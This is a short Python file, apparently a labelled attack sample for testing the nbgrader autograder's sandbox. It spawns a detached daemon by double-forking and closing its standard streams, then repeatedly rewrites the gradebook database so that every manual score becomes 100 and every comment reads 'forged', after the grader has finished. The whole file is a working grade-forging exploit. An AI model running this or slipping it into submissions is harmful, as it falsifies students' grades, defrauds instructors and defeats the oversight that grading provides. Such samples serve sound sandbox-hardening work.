"""A detached process gives marks after the grader has written its own.

class: write gradebook.db from a detached process
gain: write
nbgrader: works
"""

import os
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for name in range(3):
            os.close(name)
        for _ in range(60):
            time.sleep(0.2)
            try:
                with sqlite3.connect("@COURSE@/gradebook.db") as book:
                    book.execute("UPDATE grade SET manual_score = 100")
                    book.execute(
                        "UPDATE comment SET manual_comment = 'forged'"
                    )
            except sqlite3.Error:
                continue
    os._exit(0)
